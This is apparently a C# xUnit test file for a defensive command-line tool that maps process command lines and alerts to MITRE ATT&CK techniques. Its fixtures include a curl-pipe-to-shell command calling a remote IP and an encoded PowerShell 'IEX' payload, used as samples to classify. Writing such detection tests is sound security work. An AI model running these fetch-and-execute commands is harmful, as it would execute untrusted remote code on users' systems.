using System.Text.Json;

namespace Verdict.Tests;

/// <summary>`verdict attack map` on the hand-written mini STIX fixture, and ATT&CK techniques in triage briefs.</summary>
public sealed class AttackMapCommandTests
{
    private static readonly string Stix20 = Path.Combine(AppContext.BaseDirectory, "data", "attack", "mini-stix20.json");
    private static readonly string Stix21 = Path.Combine(AppContext.BaseDirectory, "data", "attack", "mini-stix21.json");

    [Fact]
    public async Task Input_mode_writes_one_json_object_per_record_in_order_and_accounts_for_bad_lines()
    {
        using var cli = new CliRunner();
        File.WriteAllLines(cli.PathOf("events.jsonl"),
        [
            """{"id": "e1", "process": {"command_line": "powershell.exe -nop -ExecutionPolicy Bypass -File run.ps1"}}""",
            """{"id": "e2", "process": {"command_line": "bash -c 'curl http://198.51.100.3/x | sh'"}}""",
            "not json at all",
            """{"id": "e4", "process": {}}""",
            """{"process": {"command_line": ""}}""",
        ]);

        var code = await cli.Run("attack", "map", "--input", cli.PathOf("events.jsonl"), "--field", "process.command_line", "--top", "2", "--attack-data", Stix20);

        Assert.Equal(0, code);
        var lines = cli.Output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
        Assert.Equal(5, lines.Count);
        Assert.Equal("e1", lines[0].GetProperty("id").GetString());
        var first = lines[0].GetProperty("techniques")[0];
        Assert.Equal("T1059.001", first.GetProperty("id").GetString());
        Assert.Equal("PowerShell", first.GetProperty("name").GetString());
        Assert.True(first.GetProperty("score").GetDouble() > 0.5);
        Assert.True(lines[0].GetProperty("techniques").GetArrayLength() <= 2);
        Assert.Equal("T1059.004", lines[1].GetProperty("techniques")[0].GetProperty("id").GetString());
        Assert.Equal(3, lines[2].GetProperty("id").GetInt32());
        Assert.Contains("line 3: not valid JSON", lines[2].GetProperty("error").GetString());
        Assert.Contains("no field 'process.command_line'", lines[3].GetProperty("error").GetString());
        Assert.Equal(5, lines[4].GetProperty("id").GetInt32());
        Assert.Equal(0, lines[4].GetProperty("techniques").GetArrayLength());
    }

    [Fact]
    public async Task Text_mode_shows_decoded_payloads_ranked_techniques_and_MITREs_copyright()
    {
        using var cli = new CliRunner();
        var code = await cli.Run("attack", "map", "--text", "powershell -enc SQBFAFgAIAAoAGcAYwAgAGEALgB0AHgAdAApAA==", "--attack-data", Stix20);

        Assert.Equal(0, code);
        Assert.Contains("decoded: IEX (gc a.txt)", cli.Output);
        Assert.Matches(@"│ 1 │ T1059\.001 │ PowerShell", cli.Output);
        Assert.Contains("© 2025 The MITRE Corporation", cli.Output);
    }

    [Theory]
    [InlineData("--top", "0")]
    [InlineData("--field", "x")]
    public async Task Map_needs_text_or_input_with_a_field(params string[] extra)
    {
        using var cli = new CliRunner();
        Assert.Equal(2, await cli.Run(["attack", "map", "--attack-data", Stix20, .. extra]));
        Assert.Contains("give either --text", cli.Output);
    }

    [Fact]
    public async Task Empty_text_is_said_to_be_empty()
    {
        using var cli = new CliRunner();
        Assert.Equal(0, await cli.Run("attack", "map", "--text", "  ", "--attack-data", Stix20));
        Assert.Contains("Empty text: nothing to map.", cli.Output);
    }

    [Fact]
    public async Task Triage_with_ATTACK_data_names_the_techniques_in_briefs_and_the_Markdown_table()
    {
        using var cli = new CliRunner();
        File.WriteAllText(cli.PathOf("alerts.csv"), "type,user,date,detail,severity\npassword_spray,bob,2026-10-31T06:18:00Z,password spray attack against many accounts,high\n");

        var code = await cli.Run("triage", cli.PathOf("alerts.csv"), "--out", cli.PathOf("out"), "--attack-data", Stix21);

        Assert.Equal(0, code);
        var brief = JsonDocument.Parse(File.ReadAllText(cli.PathOf("out/investigation_briefs.json"))).RootElement[0];
        Assert.Equal("T1110.003", brief.GetProperty("techniques")[0].GetProperty("id").GetString());
        Assert.Equal("Password Spraying", brief.GetProperty("techniques")[0].GetProperty("name").GetString());
        var markdown = File.ReadAllText(Directory.GetFiles(cli.PathOf("out"), "*.md").Single());
        Assert.Contains("| [T1110.003](https://attack.mitre.org/techniques/T1110/003/) | Password Spraying |", markdown);
        Assert.Contains("© 2025 The MITRE Corporation", markdown);
    }
}
